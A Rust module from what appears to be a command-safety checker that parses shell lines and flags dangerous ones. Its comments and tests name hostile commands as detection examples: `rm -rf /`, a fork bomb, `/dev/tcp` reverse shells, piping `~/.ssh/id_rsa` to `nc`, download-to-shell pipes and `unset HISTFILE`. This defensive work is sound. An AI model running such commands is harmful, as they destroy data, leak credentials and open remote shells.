//! The command safety check: classifies a command line before it runs.
//!
//! The line is parsed with tree-sitter-bash (a real shell grammar: quoting, escapes,
//! `&&`/`||`/`;`/`|`/`&`, `$(…)`, backticks, subshells, `{ …; }`, here-documents). Every simple
//! command found anywhere in it is checked, after peeling off wrappers (`sudo`, `env VAR=x`,
//! `nohup`, `time`, `xargs`, `timeout`, …); strings given to `sh -c`/`bash -c`/`zsh -c`,
//! `su -c`, `eval` and `env -S` are parsed again, recursively. When the grammar reports a
//! syntax error, a forgiving quote-aware splitter checks the line as well, so a misparse cannot
//! hide a dangerous command. Words inside quotes are data: `echo "rm -rf /"` is benign.
//! Variables given a literal value earlier in the line are substituted (`x='rm -rf /'; $x`),
//! and `cd /` (or to home) followed by `rm -r *` counts as deleting that folder.
//!
//! An interpreter's inline code (`python -c`, `node -e`, `perl -e`, `ruby -e`, `php -r`,
//! `lua -e`, an awk program, a here-document fed to one) is read too (the `inline` module): the
//! commands it runs are checked like any other, its file operations as the shell command that
//! does the same (`shutil.rmtree(p)` as `rm -rf p`), and code that builds what it runs or
//! deletes at run time, or is in a language not read here, makes the verdict *uncertain*:
//! approval policies ask about it rather than allow it.
//!
//! It is a guard against mistakes, not a sandbox: a script file, or values read from the
//! network, are not seen.
//!
//! What counts as dangerous is listed on [`Category`]; notable decisions:
//! - `git push --force-with-lease` counts as a force push: it still overwrites remote history
//!   (the lease only protects commits the pusher has not seen).
//! - `git reset --hard` counts (it discards uncommitted work); `--soft`/`--mixed` do not.
//! - `git clean` counts whenever it is forced (`-f`) and not a dry run (`-n`): untracked files
//!   are not in git, so nothing brings them back. `-d`/`-x` only widen what it deletes.
//! - `rm -r "$VAR"/` or `"$VAR"/*` counts: an empty variable turns it into `/`.
//! - Downloading to a file and running it in a second step (`curl -o x.sh … && sh x.sh`) is not
//!   flagged; piping or substituting a download into an interpreter is. The same holds for
//!   decoders (`base64 -d`, `xxd -r`, `gunzip`, `openssl enc -d`, `printf '\x..'`).
//! - "System" paths are everything under `/etc`, `/usr`, `/var`, `/boot`, `/bin`, `/lib*`,
//!   `/sbin`, `/run`, `/snap` and macOS's `/System`, `/Library`, `/Applications`, `/private`,
//!   except temp folders and `/usr/local/*` (local installs: `sudo cp app /usr/local/bin/` is
//!   ordinary). Home paths are a home folder and the folders directly in it (not caches such as
//!   `~/.cache`), and anything under `~/.ssh` or `~/.gnupg`; deeper paths are project work.
//! - `systemctl stop` counts as service removal (stopping `sshd` or a firewall is as bad as
//!   disabling it); `restart`, `status` and `--user` queries do not. `crontab FILE` counts:
//!   it replaces every scheduled job.
//! - Using a key legitimately (`ssh -i ~/.ssh/id_rsa`, `curl --netrc-file ~/.netrc`) is not
//!   exfiltration; sending a key file's content (`-d @`, `-F x=@`, `-T`, `scp key host:`,
//!   piping it or the environment into `curl`/`nc`) is. Public keys (`.pub`) are not secrets.
//! - Every `git push` that rewrites or deletes remote refs counts, whichever branch.
//! - Secure-delete tools (`shred`, `srm`, `wipe`, `scrub`, `rm -P`) count when aimed at a
//!   secret, a project's `.env` included; deleting, truncating or overwriting (`>`) key
//!   material in a home folder counts with any tool; appending to a credentials file does not.

mod category;
mod host;
mod inline;
mod lexer;
mod network;
mod paths;
mod rules;
mod words;
mod wrappers;

pub use category::{Category, Classification};

use rules::Hit;
use tree_sitter::Node;
use wrappers::{Unwrapped, base_name};

/// How deep `sh -c "sh -c '…'"` strings are followed.
const MAX_DEPTH: usize = 8;

/// Classifies one command line. Never panics, whatever the input.
pub fn classify(command: &str) -> Classification {
    let mut analyzer = Analyzer::default();
    analyzer.script(command, 0);
    match (analyzer.hit, analyzer.unsure) {
        (Some(hit), _) => Classification::dangerous(hit.category, hit.reason),
        (None, Some(reason)) => Classification::uncertain(reason),
        (None, None) => Classification::benign(),
    }
}

/// Every simple command a command line runs, found the way [`classify`] finds them: each
/// command of a chain, pipeline, subshell, substitution, `find -exec`, and of the strings given
/// to `sh -c`, `eval` or `su -c` (which themselves are not listed). Each entry has the words
/// as written and, after them, the words with wrappers (`sudo`, `env`, `timeout`, …) removed.
pub fn commands(command: &str) -> Vec<(Vec<String>, Vec<String>)> {
    let mut analyzer = Analyzer {
        collected: Some(Vec::new()),
        ..Analyzer::default()
    };
    analyzer.script(command, 0);
    analyzer.collected.unwrap_or_default()
}

#[derive(Default)]
struct Analyzer {
    hit: Option<Hit>,
    /// When listing commands (see [`commands`]): every command found, and the walk does not
    /// stop at the first hit.
    collected: Option<Vec<(Vec<String>, Vec<String>)>>,
    /// Set once a `cd` moved to the root, a system folder or home (`cd / && rm -rf *`).
    cwd_root_like: Option<&'static str>,
    /// Variables assigned a literal earlier in the line (`x='rm -rf /'; $x`).
    vars: std::collections::HashMap<String, String>,
    /// The first part of the line that could not be judged (inline code built at run time).
    unsure: Option<String>,
}

impl Analyzer {
    fn record(&mut self, hit: Option<Hit>) {
        if self.hit.is_none() {
            self.hit = hit;
        }
    }

    fn flag(&mut self, category: Category, reason: impl Into<String>) {
        self.record(Some(Hit {
            category,
            reason: reason.into(),
        }));
    }

    fn done(&self) -> bool {
        self.hit.is_some() && self.collected.is_none()
    }

    /// Notes a part of the line that cannot be judged (the first one is reported).
    fn unsure(&mut self, reason: String) {
        if self.unsure.is_none() {
            self.unsure = Some(reason);
        }
    }

    /// Judges code an interpreter runs (`python -c CODE`, a here-document fed to `perl`):
    /// the commands it runs are checked like any, the file operations as the shell command
    /// doing the same, and what cannot be judged makes the verdict uncertain.
    fn inline(&mut self, interpreter: &str, lang: inline::Lang, code: &str, depth: usize) {
        if self.done() {
            return;
        }
        if depth > MAX_DEPTH {
            return self.unsure(format!(
                "`{interpreter}` runs code nested deeper than the check follows"
            ));
        }
        if is_expansion(code.trim()) {
            return self.unsure(format!(
                "`{interpreter}` runs code taken from a shell variable or command substitution"
            ));
        }
        for effect in inline::analyze(lang, code) {
            if self.done() {
                return;
            }
            match effect {
                inline::Effect::Shell(line) if is_expansion(line.trim()) => self.unsure(format!(
                    "`{interpreter}` runs a command taken from the environment"
                )),
                inline::Effect::Shell(line) => self.script(&line, depth + 1),
                inline::Effect::Exec(argv) => self.argv(&argv, depth + 1),
                inline::Effect::Like(argv) => {
                    if let Some(mut hit) = rules::check(&argv) {
                        hit.reason =
                            format!("`{interpreter}` code, as a shell command: {}", hit.reason);
                        self.record(Some(hit));
                    }
                }
                inline::Effect::Code(lang, code) => {
                    self.inline(interpreter, lang, &code, depth + 1)
                }
                inline::Effect::Unknown(why) => self.unsure(format!("`{interpreter}` {why}")),
            }
        }
    }

    /// Checks a whole script (a command line, or the text of `sh -c`).
    fn script(&mut self, src: &str, depth: usize) {
        if depth > MAX_DEPTH || self.done() {
            return;
        }
        // tree-sitter-bash's scanner crashes (SIGSEGV) on some non-ASCII input, e.g. `{` followed
        // by U+CC062. It only ever sees an ASCII shadow of the line: every non-ASCII character
        // becomes as many `x` bytes, so node byte ranges still index the original text, and a
        // non-ASCII character was a word character to the shell anyway.
        let shadow: String = src
            .chars()
            .flat_map(|c| {
                let n = if c.is_ascii() { 0 } else { c.len_utf8() };
                std::iter::once(c)
                    .filter(char::is_ascii)
                    .chain(std::iter::repeat_n('x', n))
            })
            .collect();
        let mut parser = tree_sitter::Parser::new();
        let tree = parser
            .set_language(&tree_sitter_bash::LANGUAGE.into())
            .ok()
            .and_then(|()| parser.parse(&shadow, None));
        let clean = match &tree {
            Some(tree) => {
                self.walk(tree.root_node(), src, depth);
                !tree.root_node().has_error()
            }
            None => false,
        };
        if !clean && !self.done() {
            // The grammar gave up somewhere: also look for the classic bomb as text.
            let squeezed: String = src.chars().filter(|c| !c.is_whitespace()).collect();
            if squeezed.contains(":(){:|:&};:") {
                self.flag(Category::ForkBomb, "`:(){ :|:& };:` forks without end");
                return;
            }
            for pipeline in lexer::pipelines(src) {
                let argvs: Vec<Vec<String>> = pipeline.iter().map(|s| s.argv.clone()).collect();
                self.pipeline(&argvs, depth);
                for stage in &pipeline {
                    for target in &stage.writes {
                        self.redirect_target(target, true);
                    }
                    self.argv(&stage.argv, depth);
                }
            }
        }
    }

    /// Checks one command's words (wrappers not yet peeled off).
    fn argv(&mut self, argv: &[String], depth: usize) {
        if self.done() {
            return;
        }
        let cmd = match wrappers::unwrap(argv) {
            Unwrapped::Command(cmd) => cmd,
            Unwrapped::Script(script) => return self.script(&script, depth + 1),
            Unwrapped::Nothing => return,
        };
        let name = base_name(&cmd[0]);
        let mut transparent = matches!(name, "eval");
        if rules::is_shell(name)
            && let Some(script) = shell_c_script(cmd)
        {
            transparent = true;
            self.script(script, depth + 1);
        }
        if matches!(name, "su" | "runuser") && su_script(cmd).is_some() {
            transparent = true;
        }
        if let (Some(list), false) = (self.collected.as_mut(), transparent) {
            list.push((argv.to_vec(), cmd.to_vec()));
        }
        match name {
            "eval" => self.script(&cmd[1..].join(" "), depth + 1),
            "su" | "runuser" => {
                if let Some(script) = su_script(cmd) {
                    self.script(&script, depth + 1);
                }
            }
            "find" => {
                // `{}` stands for what the search matches: with one start and one `-name`
                // pattern, that is `START/PATTERN` (`find ~/.ssh -name 'id_*' -exec shred {}`).
                let starts: Vec<&String> = cmd[1..]
                    .iter()
                    .take_while(|a| !a.starts_with('-') && *a != "(" && *a != "!")
                    .collect();
                let names: Vec<&String> = cmd
                    .windows(2)
                    .filter(|w| matches!(w[0].as_str(), "-name" | "-iname"))
                    .map(|w| &w[1])
                    .collect();
                let matched = match (starts.as_slice(), names.as_slice()) {
                    ([start], [name]) => Some(inline::join_path(start, name)),
                    ([], [name]) => Some(inline::join_path(".", name)),
                    _ => None,
                };
                let mut rest = &cmd[1..];
                while let Some(pos) = rest
                    .iter()
                    .position(|a| matches!(a.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir"))
                {
                    let after = &rest[pos + 1..];
                    let end = after
                        .iter()
                        .position(|a| a == ";" || a == "+")
                        .unwrap_or(after.len());
                    let exec: Vec<String> = after[..end]
                        .iter()
                        .map(|a| match &matched {
                            Some(path) if a == "{}" => path.clone(),
                            _ => a.clone(),
                        })
                        .collect();
                    self.argv(&exec, depth + 1);
                    rest = &after[end..];
                }
            }
            "cd" | "pushd" => {
                let target = cmd[1..]
                    .iter()
                    .find(|a| !a.starts_with('-') || *a == "-")
                    .map_or("~", String::as_str);
                // `cd -` goes back to a folder we cannot know.
                self.cwd_root_like = rules::root_like(target).filter(|_| target != "-");
            }
            "rm" => {
                if let Some(what) = self.cwd_root_like {
                    let args = &cmd[1..];
                    let recursive = args.iter().any(|a| {
                        a == "--recursive"
                            || (a.starts_with('-')
                                && !a.starts_with("--")
                                && (a.contains('r') || a.contains('R')))
                    });
                    let everything = args
                        .iter()
                        .any(|a| matches!(a.as_str(), "*" | "." | "./" | "./*" | ".*"));
                    if recursive && everything {
                        self.flag(
                            Category::RecursiveDelete,
                            format!("`rm -r *` after `cd` deletes {what}"),
                        );
                    }
                }
            }
            _ => {}
        }
        self.record(rules::check(cmd));
        if let Some(code) = inline::find(cmd) {
            self.inline(&code.interpreter, code.lang, &code.code, depth);
        }
    }

    /// Checks a pipeline's stages: a download or decoder piped into an interpreter, a shell
    /// fed by a socket, a secret piped into a sender, literal text piped into a shell.
    fn pipeline(&mut self, stages: &[Vec<String>], depth: usize) {
        if self.done() || stages.len() < 2 {
            return;
        }
        let unwrapped: Vec<Option<&[String]>> = stages
            .iter()
            .map(|s| match wrappers::unwrap(s) {
                Unwrapped::Command(c) => Some(c),
                _ => None,
            })
            .collect();
        let runner_after = |from: usize| {
            unwrapped[from + 1..]
                .iter()
                .flatten()
                .find(|s| rules::executes_stdin(s))
                .map(|s| base_name(&s[0]).to_owned())
        };
        for (i, stage) in unwrapped.iter().enumerate() {
            let Some(stage) = stage else { continue };
            let name = base_name(&stage[0]);
            if rules::is_download(stage)
                && let Some(runner) = runner_after(i)
            {
                return self.flag(
                    Category::DownloadToShell,
                    format!("`{name} … | {runner}` runs downloaded code"),
                );
            }
        }
        for (i, stage) in unwrapped.iter().enumerate() {
            let stage = match stage {
                Some(stage) => *stage,
                None if !stages[i].is_empty() => stages[i].as_slice(),
                None => continue,
            };
            let name = base_name(&stage[0]);
            if network::is_decoder(stage)
                && let Some(runner) = runner_after(i)
            {
                return self.flag(
                    Category::DecodeToShell,
                    format!("`{name} … | {runner}` runs decoded text as code"),
                );
            }
            if (network::reads_secret(stage) || network::reads_secret(&stages[i]))
                && let Some(sender) = unwrapped[i + 1..]
                    .iter()
                    .flatten()
                    .find(|s| network::is_sender(s))
            {
                return self.flag(
                    Category::CredentialExfiltration,
                    format!(
                        "`{name} … | {}` sends secrets over the network",
                        base_name(&sender[0])
                    ),
                );
            }
        }
        let socket = unwrapped
            .iter()
            .flatten()
            .find(|s| network::is_socket_stage(s));
        let shell = unwrapped
            .iter()
            .flatten()
            .find(|s| rules::is_shell(&s[0]) && rules::executes_stdin(s));
        if let (Some(socket), Some(shell)) = (socket, shell) {
            return self.flag(
                Category::ReverseShell,
                format!(
                    "`{} … | {}` lets a network peer drive a shell",
                    base_name(&socket[0]),
                    base_name(&shell[0])
                ),
            );
        }
        // `echo 'rm -rf /' | sh`: the echoed text is the script.
        for (i, stage) in unwrapped.iter().enumerate() {
            let Some(stage) = stage else { continue };
            let feeds_shell = unwrapped
                .get(i + 1)
                .copied()
                .flatten()
                .is_some_and(|s| rules::is_shell(&s[0]) && rules::executes_stdin(s));
            let feeds_interpreter = unwrapped
                .get(i + 1)
                .copied()
                .flatten()
                .filter(|s| rules::executes_stdin(s))
                .and_then(|s| {
                    inline::stdin_lang(&s[0]).map(|lang| (base_name(&s[0]).to_owned(), lang))
                });
            if (feeds_shell || feeds_interpreter.is_some())
                && matches!(base_name(&stage[0]), "echo" | "printf")
            {
                let text: Vec<&str> = stage[1..]
                    .iter()
                    .map(String::as_str)
                    .filter(|a| !a.starts_with('-'))
                    .collect();
                let text = text.join(" ").replace("\\n", "\n");
                match feeds_interpreter {
                    Some((name, lang)) => self.inline(&name, lang, &text, depth + 1),
                    None => self.script(&text, depth + 1),
                }
            }
        }
    }

    /// A file written by a redirection (`truncates`: `>`, not `>>`).
    fn redirect_target(&mut self, target: &str, truncates: bool) {
        if rules::is_disk_device(target) {
            self.flag(
                Category::RawDiskWrite,
                format!("`> {target}` overwrites a disk device"),
            );
        } else if paths::account_path(target) {
            self.flag(
                Category::AccountChange,
                format!("`> {target}` changes who may log in or become root"),
            );
        } else if paths::kernel_path(target) {
            self.flag(
                Category::KernelChange,
                format!("`> {target}` changes a kernel setting"),
            );
        } else if paths::log_path(target) {
            self.flag(
                Category::LogWipe,
                format!("`> {target}` overwrites a log or shell history"),
            );
        } else if paths::system_path(target) {
            self.flag(
                Category::SystemFileWrite,
                format!("`> {target}` writes a file of the operating system"),
            );
        } else if truncates && paths::credential_path(target) {
            self.flag(
                Category::CredentialDestruction,
                format!("`> {target}` overwrites a key or credentials"),
            );
        }
    }

    /// Redirections of one command: `bash -i >& /dev/tcp/…` (a reverse shell),
    /// `cat ~/.ssh/id_rsa > /dev/tcp/…` and `nc host 80 < ~/.ssh/id_rsa` (secrets sent away).
    fn socket_redirects(&mut self, argv: &[String], targets: &[String]) {
        let Unwrapped::Command(cmd) = wrappers::unwrap(argv) else {
            return;
        };
        let name = base_name(&cmd[0]);
        for target in targets {
            let socket = target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/");
            if socket && rules::is_shell(name) {
                return self.flag(
                    Category::ReverseShell,
                    format!("`{name} … {target}` connects a shell to a network socket"),
                );
            }
            if socket && network::reads_secret(cmd) {
                return self.flag(
                    Category::CredentialExfiltration,
                    format!("`{name} … > {target}` sends secrets over the network"),
                );
            }
            if paths::mentions_secret(target) && network::is_sender(cmd) {
                return self.flag(
                    Category::CredentialExfiltration,
                    format!("`{name} … < {target}` sends a secret over the network"),
                );
            }
        }
    }

    /// Walks the syntax tree, checking every command, pipeline, function and redirection.
    fn walk(&mut self, root: Node<'_>, src: &str, depth: usize) {
        let mut stack = vec![root];
        while let Some(node) = stack.pop() {
            if self.done() {
                return;
            }
            match node.kind() {
                "command" => self.tree_command(node, src, depth),
                "pipeline" => {
                    let mut stages = Vec::new();
                    pipeline_stages(node, &mut stages);
                    let stages: Vec<Vec<String>> = stages
                        .into_iter()
                        .map(|stage| stage.map(|c| command_words(c, src).0).unwrap_or_default())
                        .collect();
                    self.pipeline(&stages, depth);
                }
                "unset_command"
                    if words::raw(node, src)
                        .split_whitespace()
                        .any(|w| w == "HISTFILE") =>
                {
                    self.flag(
                        Category::LogWipe,
                        "`unset HISTFILE` stops recording history",
                    );
                }
                "function_definition" => self.fork_bomb(node, src),
                "file_redirect" => {
                    let mut cursor = node.walk();
                    let operator = node.children(&mut cursor).find(|c| {
                        !c.is_named() && c.kind().contains('>') && !c.kind().contains(">&")
                    });
                    if let Some(operator) = operator
                        && let Some(dest) = node.child_by_field_name("destination")
                    {
                        let truncates = !operator.kind().contains(">>");
                        self.redirect_target(&words::text(dest, src), truncates);
                    }
                }
                "variable_assignment" => {
                    if let (Some(name), Some(value)) = (
                        node.child_by_field_name("name"),
                        node.child_by_field_name("value"),
                    ) {
                        let value = words::text(value, src);
                        let name = words::raw(name, src).into_owned();
                        if let Some(reason) = host::history_off(&format!("{name}={value}")) {
                            self.flag(Category::LogWipe, reason);
                        }
                        self.vars.insert(name, value);
                    }
                }
                "redirected_statement" => {
                    if let Some(body) = node
                        .child_by_field_name("body")
                        .filter(|b| b.kind() == "command")
                    {
                        let mut cursor = node.walk();
                        let targets: Vec<String> = node
                            .children_by_field_name("redirect", &mut cursor)
                            .filter(|r| r.kind() == "file_redirect")
                            .filter_map(|r| r.child_by_field_name("destination"))
                            .map(|d| words::text(d, src))
                            .collect();
                        self.socket_redirects(&command_words(body, src).0, &targets);
                    }
                    let reader = node
                        .child_by_field_name("body")
                        .filter(|b| b.kind() == "command")
                        .and_then(|b| stdin_reader(&command_words(b, src).0));
                    if let Some(reader) = reader {
                        let mut cursor = node.walk();
                        for redirect in node.children_by_field_name("redirect", &mut cursor) {
                            if redirect.kind() == "heredoc_redirect" {
                                let mut inner = redirect.walk();
                                for part in redirect.named_children(&mut inner) {
                                    if part.kind() == "heredoc_body" {
                                        let body = words::raw(part, src);
                                        match &reader {
                                            StdinReader::Shell => self.script(&body, depth + 1),
                                            StdinReader::Interpreter(name, lang) => {
                                                self.inline(name, *lang, &body, depth + 1);
                                            }
                                        }
                                    }
                                }
                            }
                        }
                    }
                }
                _ => {}
            }
            let mut cursor = node.walk();
            let children: Vec<Node<'_>> = node.children(&mut cursor).collect();
            stack.extend(children.into_iter().rev());
        }
    }

    fn tree_command(&mut self, node: Node<'_>, src: &str, depth: usize) {
        let (argv, nodes) = command_words(node, src);
        if argv.is_empty() {
            return;
        }
        // `$(curl …)` as the command itself runs what was downloaded (or decoded).
        if let Some(category) = nodes.first().and_then(|n| code_source(*n, src)) {
            self.flag(
                category,
                "the command runs the output of a download or decoder",
            );
            return;
        }
        let expanded = self.expand(&argv, &nodes);
        self.argv(&expanded, depth);
        if self.done() {
            return;
        }
        let Unwrapped::Command(cmd) = wrappers::unwrap(&argv) else {
            return;
        };
        let offset = argv.len() - cmd.len();
        let name = base_name(&cmd[0]);
        // `sh <(curl …)`, `bash -c "$(curl …)"`, `eval "$(wget -O- …)"`, `source <(curl …)`.
        if (rules::is_interpreter(name) || name == "eval")
            && let Some(category) = nodes[offset + 1..]
                .iter()
                .find_map(|n| code_source(*n, src))
        {
            self.flag(
                category,
                format!("`{name}` runs code produced by a download or decoder"),
            );
            return;
        }
        // `sh <<< "$(curl …)"` or `bash <<< 'rm -rf /'`.
        let mut cursor = node.walk();
        for redirect in node.children_by_field_name("redirect", &mut cursor) {
            if redirect.kind() == "herestring_redirect" && rules::executes_stdin(cmd) {
                if let Some(category) = code_source(redirect, src) {
                    self.flag(
                        category,
                        format!("`{name} <<<` runs code produced by a download or decoder"),
                    );
                    return;
                }
                let mut inner = redirect.walk();
                let text: String = redirect
                    .named_children(&mut inner)
                    .map(|c| words::text(c, src))
                    .collect();
                if rules::is_shell(name) {
                    self.script(&text, depth + 1);
                } else if let Some(lang) = inline::stdin_lang(name) {
                    self.inline(name, lang, &text, depth + 1);
                }
            }
        }
    }

    /// `argv` with variables assigned earlier in the line substituted: an unquoted `$x` alone
    /// is split into words as the shell would; elsewhere `$x` is replaced in place.
    fn expand(&self, argv: &[String], nodes: &[Node<'_>]) -> Vec<String> {
        if self.vars.is_empty() {
            return argv.to_vec();
        }
        let mut out = Vec::with_capacity(argv.len());
        for (word, node) in argv.iter().zip(nodes) {
            let name = word.strip_prefix('$').unwrap_or_default();
            let node = if node.kind() == "command_name" {
                node.named_child(0).unwrap_or(*node)
            } else {
                *node
            };
            match self.vars.get(name) {
                Some(value) if node.kind() == "simple_expansion" || node.kind() == "expansion" => {
                    out.extend(value.split_whitespace().map(str::to_owned));
                }
                _ => {
                    let mut word = word.clone();
                    for (name, value) in &self.vars {
                        word = word.replace(&format!("${name}"), value);
                    }
                    out.push(word);
                }
            }
        }
        out
    }

    /// A function that calls itself twice, or once in the background: `:(){ :|:& };:`.
    fn fork_bomb(&mut self, node: Node<'_>, src: &str) {
        let (Some(name), Some(body)) = (
            node.child_by_field_name("name"),
            node.child_by_field_name("body"),
        ) else {
            return;
        };
        let name = words::text(name, src);
        let mut calls = 0;
        let mut stack = vec![body];
        while let Some(n) = stack.pop() {
            if n.kind() == "function_definition" {
                continue;
            }
            if n.kind() == "command"
                && n.child_by_field_name("name")
                    .is_some_and(|c| words::text(c, src) == name)
            {
                calls += 1;
            }
            let mut cursor = n.walk();
            stack.extend(n.children(&mut cursor));
        }
        let backgrounded = {
            let mut cursor = body.walk();
            let mut found = false;
            let mut stack = vec![body];
            while let Some(n) = stack.pop() {
                if !n.is_named() && n.kind() == "&" {
                    found = true;
                    break;
                }
                stack.extend(n.children(&mut cursor).collect::<Vec<_>>());
            }
            found
        };
        if calls >= 2 || (calls == 1 && backgrounded) {
            self.flag(
                Category::ForkBomb,
                format!("function `{name}` calls itself without end, forking each time"),
            );
        }
    }
}

/// The command nodes of a pipeline's stages, in order, looking through redirections and
/// the nested pipelines the grammar makes of `a | b 2>&1 | c` (`None` for a stage that is
/// not a simple command).
fn pipeline_stages<'t>(node: Node<'t>, out: &mut Vec<Option<Node<'t>>>) {
    let mut cursor = node.walk();
    for stage in node.named_children(&mut cursor) {
        match stage.kind() {
            "command" => out.push(Some(stage)),
            "pipeline" => pipeline_stages(stage, out),
            "redirected_statement" => match stage.child_by_field_name("body") {
                Some(body) if body.kind() == "command" => out.push(Some(body)),
                Some(body) if body.kind() == "pipeline" => pipeline_stages(body, out),
                _ => out.push(None),
            },
            "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {}
            _ => out.push(None),
        }
    }
}

/// A command node's words (name first) and the nodes they came from.
fn command_words<'t>(node: Node<'t>, src: &str) -> (Vec<String>, Vec<Node<'t>>) {
    let mut argv = Vec::new();
    let mut nodes = Vec::new();
    if let Some(name) = node.child_by_field_name("name") {
        argv.push(words::text(name, src));
        nodes.push(name);
    }
    let mut cursor = node.walk();
    for arg in node.children_by_field_name("argument", &mut cursor) {
        argv.push(words::text(arg, src));
        nodes.push(arg);
    }
    (argv, nodes)
}

/// What runs the code a command reads from its standard input.
enum StdinReader {
    /// A shell: a here-document fed to it is shell code.
    Shell,
    /// An interpreter whose language is read here (its name as written, the language).
    Interpreter(String, inline::Lang),
}

/// Whether `argv` runs code from its standard input, and in what.
fn stdin_reader(argv: &[String]) -> Option<StdinReader> {
    let Unwrapped::Command(cmd) = wrappers::unwrap(argv) else {
        return None;
    };
    if !rules::executes_stdin(cmd) {
        return None;
    }
    if rules::is_shell(&cmd[0]) {
        return Some(StdinReader::Shell);
    }
    inline::stdin_lang(&cmd[0])
        .map(|lang| StdinReader::Interpreter(base_name(&cmd[0]).to_owned(), lang))
}

/// Whether `code` is all one shell expansion (`$CODE`, `${CODE}`, `$(cat f)`), so what
/// runs is not on the line.
fn is_expansion(code: &str) -> bool {
    let Some(rest) = code.strip_prefix('$') else {
        return false;
    };
    let name = |s: &str| {
        !s.is_empty()
            && s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && !s.starts_with(|c: char| c.is_ascii_digit())
    };
    name(rest)
        || (rest.starts_with('{') && rest.ends_with('}') && !rest[1..].contains('}'))
        || (rest.starts_with('(') && rest.ends_with(')'))
}

/// Whether a download (or else a decoder) appears anywhere inside `node` (e.g. in `$(…)` or
/// `<(…)`): the category of running its output.
fn code_source(node: Node<'_>, src: &str) -> Option<Category> {
    let mut decoded = false;
    let mut stack = vec![node];
    while let Some(n) = stack.pop() {
        if n.kind() == "command" {
            let (argv, _) = command_words(n, src);
            if let Unwrapped::Command(cmd) = wrappers::unwrap(&argv) {
                if rules::is_download(cmd) {
                    return Some(Category::DownloadToShell);
                }
                decoded |= network::is_decoder(cmd);
            }
        }
        let mut cursor = n.walk();
        stack.extend(n.children(&mut cursor));
    }
    decoded.then_some(Category::DecodeToShell)
}

/// The command string of `sh -c 'cmd'` (options may be bundled: `bash -lc`, `sh -ec`).
fn shell_c_script(cmd: &[String]) -> Option<&str> {
    let mut has_c = false;
    let mut i = 1;
    while i < cmd.len() {
        let arg = cmd[i].as_str();
        i += 1;
        if arg == "--" {
            break;
        }
        if let Some(long) = arg.strip_prefix("--") {
            if matches!(long, "rcfile" | "init-file") {
                i += 1;
            }
            if long == "command" {
                has_c = true;
            }
            continue;
        }
        if let Some(cluster) = arg.strip_prefix('-').or_else(|| arg.strip_prefix('+')) {
            if cluster.contains('c') {
                has_c = true;
            }
            if matches!(cluster, "o" | "O") {
                i += 1;
            }
            continue;
        }
        return has_c.then_some(arg);
    }
    if has_c {
        cmd.get(i).map(String::as_str)
    } else {
        None
    }
}

/// The command of `su [user] -c 'cmd'` / `su --command=cmd`.
fn su_script(cmd: &[String]) -> Option<String> {
    let mut args = cmd[1..].iter();
    while let Some(arg) = args.next() {
        if arg == "-c" || arg == "--command" || arg == "--session-command" {
            return args.next().cloned();
        }
        if let Some(script) = arg.strip_prefix("--command=") {
            return Some(script.to_owned());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nested_shell_strings() {
        let c = classify(r#"bash -lc "sh -c 'rm -rf /'""#);
        assert_eq!(c.category, Some(Category::RecursiveDelete), "{c:?}");
    }

    #[test]
    fn misparse_falls_back() {
        let c = classify("[ -d / ] && rm -rf /");
        assert_eq!(c.category, Some(Category::RecursiveDelete), "{c:?}");
    }

    #[test]
    fn depth_is_bounded() {
        let mut cmd = "rm -rf /".to_owned();
        for _ in 0..20 {
            cmd = format!("eval {}", cmd);
        }
        // Deeper than MAX_DEPTH: not followed, and no stack overflow.
        let _ = classify(&cmd);
    }
}

/// The README's example, compiled and run as a doctest.
#[cfg(doctest)]
#[doc = include_str!("../README.md")]
struct ReadmeDoctest;
